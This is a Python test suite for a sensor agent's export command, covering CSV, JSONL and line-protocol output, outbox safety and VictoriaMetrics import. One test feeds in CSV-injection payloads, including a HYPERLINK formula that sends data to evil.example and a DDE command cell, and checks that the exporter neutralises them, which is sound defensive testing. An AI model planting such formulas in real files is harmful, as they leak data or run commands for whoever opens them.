"""``envagent export``: the real command on a real outbox; CSV, JSONL and line protocol, the
latter imported into a real VictoriaMetrics, then the same readings synced on top of it."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import requests
from victoriametrics import VictoriaMetrics

from agent.core.reading import Reading
from agent.core.timebase import NS, iso_ns
from agent.store.outbox import Outbox
from agent.uplink.encoders import JsonEncoder, reading_id
from agent.uplink.export import COLUMNS, atomic_file, parse_time
from drivers.base import Quality

ROOT = Path(__file__).resolve().parents[1]
UNIT = "exp-001"
SITE = "汉中 wetland, east"
DRIVERS = {"air": "bme280", "soil": "sht4x"}
T0 = parse_time("2026-11-21T06:00:00Z")
BOOT = "0b0b0b0b-old-boot"  # never this machine's boot: nothing is held or re-stamped
NS_PER_MS = 1_000_000
VM_REL_PRECISION = 1e-11  # tests/test_end_to_end.py: VictoriaMetrics keeps ~12 digits


def envagent(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "agent", *map(str, args)], cwd=cwd,
                          capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})


def station(path: Path, *, measurement: str = "envagent", url: str | None = None) -> Path:
    text = (f'[unit]\nid = "{UNIT}"\nsite = "{SITE}"\n[storage]\ncommit_interval = "1s"\n'
            '[[sensor]]\nid = "air"\ndriver = "bme280"\naddress = 0x76\ninterval = "1s"\n'
            '[[sensor]]\nid = "soil"\ndriver = "sht4x"\naddress = 0x44\ninterval = "1s"\n')
    if url is not None:
        token = path.with_name("token")
        token.write_text("unused-by-victoriametrics\n")
        token.chmod(0o600)
        text += (f'[uplink]\nurl = "{url}"\nallow_insecure_http = true\ntoken_file = "{token}"\n'
                 f'measurement = "{measurement}"\n')
    path.write_text(text, encoding="utf-8")
    return path


def reading(sensor: str, quantity: str, value: float, time_ns: int, *, unit: str = "°C",
            synced: bool | None = True, quality: int = 0,
            calibration: str | None = None) -> Reading:
    return Reading(sensor, quantity, value, unit, time_ns, 7 * NS + time_ns - T0, BOOT, synced,
                   quality, calibration)


# Every kind of field: calibrated, flagged, NaN, +/-Inf, unsynced, clock unknown, a sensor the
# config does not name (the agent's own health readings), a unit with non-ASCII characters.
KNOWN = [
    reading("air", "temperature", 21.5, T0, calibration="cal-2026-01"),
    reading("air", "humidity", math.nan, T0, unit="%RH", quality=Quality.OUT_OF_RANGE),
    reading("air", "pressure", math.inf, T0, unit="hPa"),
    reading("soil", "temperature", -math.inf, T0 + 1, synced=False),
    reading("soil", "humidity", 55.123456789012345, T0 + 1, unit="%RH", synced=None),
    reading("agent", "backlog", 12.0, T0 + NS, unit="readings", synced=False,
            quality=Quality.WARMUP),
    reading("air", "pm2_5", -0.0, T0 + 2 * NS, unit="µg/m³"),
]


def fill(data: Path, readings: list[Reading]) -> Path:
    with Outbox(data / "outbox.sqlite", max_bytes=16 * 1024**2) as outbox:
        outbox.append(readings)
    return data


def expected(r: Reading, *, simulated: bool = False) -> dict[str, Any]:
    """One reading as the export must show it, worked out independently of agent.uplink.export
    (``simulated``: a rehearsal's, agent.store.rehearsal)."""
    finite = math.isfinite(r.value)
    quality = int(r.quality) | (int(Quality.CLOCK_UNSYNCED) if r.synced is False else 0)
    item: dict[str, Any] = {
        "id": reading_id(UNIT, r), "unit": UNIT, "site": SITE, "sensor": r.sensor,
        "driver": DRIVERS.get(r.sensor), "quantity": r.quantity,
        "value": r.value if finite else None, "uom": r.unit,
        "time": iso_ns(r.time_ns), "time_ns": r.time_ns, "quality": quality,
        "synced": r.synced, "boot_id": r.boot_id, "boot_ns": r.boot_ns,
        "calibration": r.calibration, "simulated": simulated,
    }
    if not finite:
        item["nonfinite"] = "NaN" if math.isnan(r.value) else "+Inf" if r.value > 0 else "-Inf"
    return item


def unquoted(cell: str) -> str:
    """A text cell as it was before the export neutralised it for spreadsheets."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] in ("=", "+", "-", "@", "\t", "\r") \
        else cell


def from_csv(text: str) -> list[dict[str, Any]]:
    """CSV rows typed back: empty is null, numbers are numbers, true/false are booleans."""
    rows = list(csv.DictReader(io.StringIO(text)))
    out = []
    for row in rows:
        item: dict[str, Any] = {k: (unquoted(v) if v != "" else None) for k, v in row.items()}
        for key in ("time_ns", "quality", "boot_ns"):
            item[key] = int(item[key])
        item["value"] = None if item["value"] is None else float(item["value"])
        item["synced"] = {"true": True, "false": False, None: None}[item["synced"]]
        item["simulated"] = {"true": True, "false": False}[item["simulated"]]
        if item["nonfinite"] is None:
            del item["nonfinite"]
        out.append(item)
    return out


def run_export(tmp_path: Path, data: Path, *args: str | Path) -> subprocess.CompletedProcess[str]:
    config = station(tmp_path / "station.toml")
    result = envagent("export", "--config", config, "--data-dir", data, *args, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    return result


# --- formats ----------------------------------------------------------------------------------


def test_csv_round_trips_every_field(tmp_path: Path) -> None:
    data = fill(tmp_path / "data", KNOWN)
    out = tmp_path / "stick" / "export.csv"
    out.parent.mkdir()
    result = run_export(tmp_path, data, "--format", "csv", "--output", out)
    text = out.read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(COLUMNS)
    rows = from_csv(text)
    assert rows == [expected(r) for r in KNOWN]
    assert math.copysign(1, rows[-1]["value"]) == -1  # -0.0 stays -0.0: repr, not formatting
    assert ",,NaN," in text and ",,'+Inf," in text  # non-finite: empty value, named beside it
    assert f"exported {len(KNOWN)} reading(s)" in result.stderr
    assert f"{iso_ns(T0)} to {iso_ns(T0 + 2 * NS)}" in result.stderr
    assert result.stdout == ""


def test_jsonl_round_trips_every_field(tmp_path: Path) -> None:
    data = fill(tmp_path / "data", KNOWN)
    result = run_export(tmp_path, data, "--format", "jsonl")  # to stdout

    def no_constants(name: str) -> None:
        raise AssertionError(f"{name} is not JSON")

    items = [json.loads(line, parse_constant=no_constants) for line in result.stdout.splitlines()]
    assert items == [expected(r) for r in KNOWN]
    assert items[1]["value"] is None and items[1]["nonfinite"] == "NaN"
    assert items[1]["quality"] == Quality.OUT_OF_RANGE
    assert items[3]["quality"] == Quality.CLOCK_UNSYNCED  # added for an unsynced reading
    assert items[4]["synced"] is None and items[4]["quality"] == 0  # unknown is not unsynced
    assert items[5]["driver"] is None


def test_ids_are_the_json_sinks_ids(tmp_path: Path) -> None:
    data = fill(tmp_path / "data", KNOWN)
    result = run_export(tmp_path, data, "--format", "jsonl")
    sent = JsonEncoder(unit=UNIT, site=SITE, drivers=DRIVERS).document(KNOWN)["readings"]
    exported = [json.loads(line) for line in result.stdout.splitlines()]
    assert [e["id"] for e in exported] == [s["id"] for s in sent]
    assert [e["quality"] for e in exported] == [s["quality"] for s in sent]


def test_the_export_changes_nothing_in_the_outbox(tmp_path: Path) -> None:
    data = fill(tmp_path / "data", KNOWN)
    with Outbox.open_readonly(data / "outbox.sqlite") as outbox:
        before, stats = outbox.take(100), outbox.stats()
    for fmt in ("csv", "jsonl", "lp"):
        run_export(tmp_path, data, "--format", fmt, "--output", tmp_path / f"x.{fmt}")
    with Outbox.open_readonly(data / "outbox.sqlite") as outbox:
        assert outbox.take(100) == before
        assert outbox.stats() == stats


# --- the time window --------------------------------------------------------------------------


def test_since_is_inclusive_and_until_exclusive_to_the_nanosecond(tmp_path: Path) -> None:
    since, until = parse_time("2026-11-21T06:00:00Z"), parse_time("2026-11-21T07:00:00Z")
    stamps = [since - 1, since, since + 1, until - 1, until, until + 1]
    data = fill(tmp_path / "data", [reading("air", "temperature", float(i), t)
                                    for i, t in enumerate(stamps)])
    window = run_export(tmp_path, data, "--format", "jsonl", "--since", "2026-11-21T06:00:00Z",
                        "--until", "2026-11-21T07:00:00Z")
    assert [json.loads(x)["time_ns"] for x in window.stdout.splitlines()] == stamps[1:4]
    # A date is midnight UTC; no offset means UTC; an offset is honoured; nine digits of ns.
    assert parse_time("2026-11-21") == parse_time("2026-11-21T00:00:00+00:00")
    assert parse_time("2026-11-21T06:00:00") == since
    assert parse_time("2026-11-21T08:00:00+02:00") == since
    assert parse_time("2026-11-21T06:00:00.000000001Z") == since + 1
    # Consecutive windows tile the timeline: every reading exactly once.
    before = run_export(tmp_path, data, "--format", "jsonl", "--until", "2026-11-21T06:00:00Z")
    after = run_export(tmp_path, data, "--format", "jsonl", "--since", "2026-11-21T07:00:00Z")
    parts = [before.stdout, window.stdout, after.stdout]
    assert [json.loads(x)["time_ns"] for p in parts for x in p.splitlines()] == stamps


def test_bad_times_are_usage_errors(tmp_path: Path) -> None:
    data = fill(tmp_path / "data", KNOWN)
    config = station(tmp_path / "station.toml")
    bad = envagent("export", "--config", config, "--data-dir", data, "--since", "yesterday",
                   cwd=tmp_path)
    assert bad.returncode == 2 and "2026-11-21T06:00:00Z" in bad.stderr
    backwards = envagent("export", "--config", config, "--data-dir", data, "--since",
                         "2026-11-22", "--until", "2026-11-21", cwd=tmp_path)
    assert backwards.returncode == 2 and "--since must be before --until" in backwards.stderr
    assert "Traceback" not in bad.stderr + backwards.stderr


# --- atomic writing ---------------------------------------------------------------------------


def test_a_missing_directory_fails_clearly_and_leaves_nothing(tmp_path: Path) -> None:
    data = fill(tmp_path / "data", KNOWN)
    config = station(tmp_path / "station.toml")
    target = tmp_path / "unmounted-stick" / "export.csv"
    result = envagent("export", "--config", config, "--data-dir", data, "--output", target,
                      cwd=tmp_path)
    assert result.returncode == 1
    assert f"cannot write {target}" in result.stderr and "does not exist" in result.stderr
    assert "Traceback" not in result.stderr
    assert not target.parent.exists()


def test_a_failed_write_leaves_the_old_file_and_no_partial_one(tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    target.write_text("the previous, complete export\n")
    with pytest.raises(RuntimeError), atomic_file(target) as file:
        file.write("half of a new expo")
        raise RuntimeError("the stick was pulled")
    assert target.read_text() == "the previous, complete export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]  # no temporary left
    with atomic_file(target) as file:
        file.write("new\n")
        assert target.read_text() == "the previous, complete export\n"  # not before the end
    assert target.read_text() == "new\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]


def test_no_outbox_is_a_runtime_failure(tmp_path: Path) -> None:
    config = station(tmp_path / "station.toml")
    result = envagent("export", "--config", config, "--data-dir", tmp_path / "empty",
                      cwd=tmp_path)
    assert result.returncode == 1 and "no outbox" in result.stderr
    assert not (tmp_path / "empty").exists()  # the export creates nothing



@pytest.mark.parametrize(("content", "words"), [
    (b"not a database, a file put in its place" * 100, "file is not a database"),
    (None, "has outbox schema 0, this agent reads"),  # an SQLite file, not an outbox
])
def test_an_outbox_that_is_not_one_is_a_clear_runtime_failure(tmp_path: Path,
                                                               content: bytes | None,
                                                               words: str) -> None:
    data = tmp_path / "data"
    data.mkdir()
    if content is None:
        sqlite3.connect(data / "outbox.sqlite").execute("CREATE TABLE t (x)").connection.close()
    else:
        (data / "outbox.sqlite").write_bytes(content)
    before = (data / "outbox.sqlite").read_bytes()
    target = tmp_path / "export.csv"
    result = envagent("export", "--config", station(tmp_path / "station.toml"), "--data-dir",
                      data, "--output", target, cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    assert words in result.stderr and "Traceback" not in result.stderr
    assert not target.exists()  # nothing written under the name
    assert (data / "outbox.sqlite").read_bytes() == before
    assert sorted(p.name for p in data.iterdir()) == ["outbox.sqlite"]  # no -wal, no -shm

# --- what --output may not touch ---------------------------------------------------------------


def outbox_state(data: Path) -> tuple[bytes, list[Reading]]:
    with Outbox.open_readonly(data / "outbox.sqlite") as outbox:
        readings = [s.reading for s in outbox.take(1000)]
    return (data / "outbox.sqlite").read_bytes(), readings


@pytest.mark.parametrize("force", [False, True])
def test_the_outbox_and_its_wal_and_shm_are_never_an_output(tmp_path: Path, force: bool) -> None:
    data = fill(tmp_path / "data", KNOWN)
    config = station(tmp_path / "station.toml")
    before = outbox_state(data)
    (tmp_path / "link.csv").symlink_to(data / "outbox.sqlite")
    os.link(data / "outbox.sqlite", tmp_path / "hard.csv")
    targets: list[str | Path] = [
        data / "outbox.sqlite", data / "outbox.sqlite-wal", data / "outbox.sqlite-shm",
        "data/outbox.sqlite",  # relative to the working directory
        "data/../data/./outbox.sqlite", tmp_path / "link.csv", tmp_path / "hard.csv"]
    for target in targets:
        result = envagent("export", "--config", config, "--data-dir", data, "--output", target,
                          *(["--force"] if force else []), cwd=tmp_path)
        assert result.returncode == 1, (target, result.stderr)
        assert "outbox" in result.stderr and "Traceback" not in result.stderr, target
        assert outbox_state(data) == before, target
    assert not (data / "outbox.sqlite-wal").exists() and not (data / "outbox.sqlite-shm").exists()
    assert (tmp_path / "link.csv").is_symlink()


def test_an_existing_file_is_replaced_only_with_force(tmp_path: Path) -> None:
    data = fill(tmp_path / "data", KNOWN)
    config = station(tmp_path / "station.toml")
    target = tmp_path / "export.csv"
    target.write_text("last week's export\n")
    refused = envagent("export", "--config", config, "--data-dir", data, "--output", target,
                       cwd=tmp_path)
    assert refused.returncode == 1 and "--force" in refused.stderr
    assert str(target) in refused.stderr and "Traceback" not in refused.stderr
    assert target.read_text() == "last week's export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "export.csv", "station.toml"]
    forced = run_export(tmp_path, data, "--output", target, "--force")
    assert "exported" in forced.stderr
    assert from_csv(target.read_text(encoding="utf-8")) == [expected(r) for r in KNOWN]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    """OWASP, CSV injection: a text cell starting with = + - @ TAB or CR is prefixed with a
    single quote; numbers are written as numbers, a negative one too."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    config = tmp_path / "station.toml"
    config.write_text(station(config).read_text(encoding="utf-8").replace(
        f'site = "{SITE}"', f"site = '{hostile}'"), encoding="utf-8")
    readings = [reading("air", "temperature", -3.5, T0, calibration="+cmd|' /C calc'!A0"),
                reading("air", "humidity", -math.inf, T0, unit="@SUM(1+1)"),
                reading("soil", "temperature", 1.0, T0 + 1, unit="\t=1+1",
                        calibration="-2+3"),
                reading("soil", "humidity", 2.0, T0 + 1, unit="\r=1", calibration="a=b")]
    data = fill(tmp_path / "data", readings)
    out = tmp_path / "export.csv"
    result = envagent("export", "--config", config, "--data-dir", data, "--output", out,
                      cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode(), newline="")))
    assert [r["site"] for r in rows] == ["'" + hostile] * 4
    assert [r["calibration"] for r in rows] == [
        "'+cmd|' /C calc'!A0", "", "'-2+3", "a=b"]
    assert [r["uom"] for r in rows] == ["°C", "'@SUM(1+1)", "'\t=1+1", "'\r=1"]
    assert [r["nonfinite"] for r in rows] == ["", "'-Inf", "", ""]
    assert rows[0]["value"] == "-3.5"  # a number stays a number
    assert int(rows[0]["time_ns"]) == T0
    for row in rows:
        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for k, v in row.items()
                       if k not in ("value", "time_ns", "boot_ns", "quality")), row


# --- a real run -------------------------------------------------------------------------------


def test_what_a_simulated_run_stored_is_exported_whole(tmp_path: Path) -> None:
    config, data = station(tmp_path / "station.toml"), tmp_path / "data"
    ran = envagent("run", "--simulate", "--config", config, "--data-dir", data,
                   "--duration", "3.5", cwd=tmp_path)
    assert ran.returncode == 0, ran.stderr
    with Outbox.open_readonly(data / "outbox.sqlite") as outbox:
        stored = [s.reading for s in outbox.take(10**6)]
    assert len(stored) >= 10  # two sensors, 1 s: at least two samples each
    result = run_export(tmp_path, data, "--format", "csv", "--output", tmp_path / "run.csv")
    rows = from_csv((tmp_path / "run.csv").read_text(encoding="utf-8"))
    # If this machine's clock were synchronised now but not when sampled, the agent would
    # re-stamp those readings, and the export leaves them out (see agent.uplink.export).
    held = "left out" in result.stderr
    assert held or rows == [expected(r, simulated=True) for r in stored]  # marked a rehearsal's
    assert f"exported {len(rows)} reading(s)" in result.stderr


# --- line protocol into a real VictoriaMetrics ------------------------------------------------

Series = dict[tuple[tuple[str, str], ...], list[tuple[int, float]]]


def want_in_vm(readings: list[Reading], measurement: str) -> Series:
    """The documented line-protocol mapping as VictoriaMetrics stores it (finite values only):
    a value series per quantity, ``_q`` with the quality bits when they are not 0."""
    series: Series = {}
    for r in readings:
        tags = {"unit": UNIT, "site": SITE, "sensor": r.sensor}
        tags |= {"driver": DRIVERS[r.sensor]} if r.sensor in DRIVERS else {}
        quality = int(r.quality) | (int(Quality.CLOCK_UNSYNCED) if r.synced is False else 0)
        fields = {r.quantity: r.value} | ({f"{r.quantity}_q": float(quality)} if quality else {})
        for field, value in fields.items():
            key = tuple(sorted({**tags, "__name__": f"{measurement}_{field}"}.items()))
            series.setdefault(key, []).append((r.time_ns // NS_PER_MS, value))
    return {k: sorted(v) for k, v in series.items()}


def in_vm(vm: VictoriaMetrics, measurement: str) -> Series:
    series: Series = {}
    for s in vm.query_export(f'{{__name__=~"{measurement}_.*"}}'):
        points = list(zip(s["timestamps"], s["values"], strict=True))
        assert len({t for t, _ in points}) == len(points), f"duplicates in {s['metric']}"
        series[tuple(sorted(s["metric"].items()))] = points
    return series


def assert_same(got: Series, want: Series) -> None:
    assert set(got) == set(want), (sorted(set(got) - set(want)), sorted(set(want) - set(got)))
    for key, points in want.items():
        assert [t for t, _ in got[key]] == [t for t, _ in points], key
        assert all(math.isclose(g, w, rel_tol=VM_REL_PRECISION) or g == w
                   for (_, g), (_, w) in zip(got[key], points, strict=True)), key


def vm_readings() -> list[Reading]:
    """KNOWN's finite readings a millisecond apart (VictoriaMetrics keeps ms), and a backlog.

    Non-finite values are left out: VictoriaMetrics 1.79 turns the ``_nonfinite`` string field
    into a number series ("+Inf" parses; "NaN" is dropped) and its /api/v1/export then prints
    ``+Inf``, which is not JSON. The CSV and JSONL tests cover non-finite values."""
    spread = [reading(r.sensor, r.quantity, r.value, T0 + i * NS_PER_MS, unit=r.unit,
                      synced=r.synced, quality=r.quality, calibration=r.calibration)
              for i, r in enumerate(KNOWN) if math.isfinite(r.value)]
    backlog = [reading(sensor, quantity, 20.0 + i / 7, T0 + (10 + i) * NS, unit="x")
               for i in range(300) for sensor, quantity in (("air", "temperature"),
                                                            ("soil", "humidity"))]
    return spread + backlog


def test_line_protocol_imports_into_victoriametrics_once_however_often(
        victoriametrics: VictoriaMetrics, tmp_path: Path) -> None:
    vm, measurement = victoriametrics, "export_lp"
    vm.delete_series(f'{{__name__=~"{measurement}_.*"}}')
    readings = vm_readings()
    data = fill(tmp_path / "data", readings)
    config = station(tmp_path / "station.toml", measurement=measurement, url=vm.write_url)
    lp = tmp_path / "export.lp"
    result = envagent("export", "--config", config, "--data-dir", data, "--format", "lp",
                      "--output", lp, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    body = lp.read_bytes()
    assert all(line.startswith(f"{measurement},".encode()) for line in body.splitlines())
    for _ in range(2):  # the documented import, twice
        answer = requests.post(f"{vm.write_url}?precision=ns", data=body, timeout=10)
        assert answer.status_code == 204, answer.text
    assert_same(in_vm(vm, measurement), want_in_vm(readings, measurement))


def test_exported_then_synced_readings_land_once(victoriametrics: VictoriaMetrics,
                                                 tmp_path: Path) -> None:
    vm, measurement = victoriametrics, "export_sync"
    vm.delete_series(f'{{__name__=~"{measurement}_.*"}}')
    readings = vm_readings()
    data = fill(tmp_path / "data", readings)
    config = station(tmp_path / "station.toml", measurement=measurement, url=vm.write_url)
    lp = tmp_path / "export.lp"
    exported = envagent("export", "--config", config, "--data-dir", data, "--format", "lp",
                        "--output", lp, cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    answer = requests.post(f"{vm.write_url}?precision=ns", data=lp.read_bytes(), timeout=10)
    assert answer.status_code == 204, answer.text
    after_import = in_vm(vm, measurement)
    assert_same(after_import, want_in_vm(readings, measurement))

    # The unit comes online: the same readings, still in its outbox, are delivered as well.
    synced = envagent("sync", "--config", config, "--data-dir", data, "--json", cwd=tmp_path)
    assert synced.returncode == 0, synced.stderr
    report = json.loads(synced.stdout)
    assert (report["ok"], report["delivered"], report["backlog"]) == (True, len(readings), 0)
    after_sync = in_vm(vm, measurement)
    assert after_sync == after_import  # same points, same timestamps and values: one copy
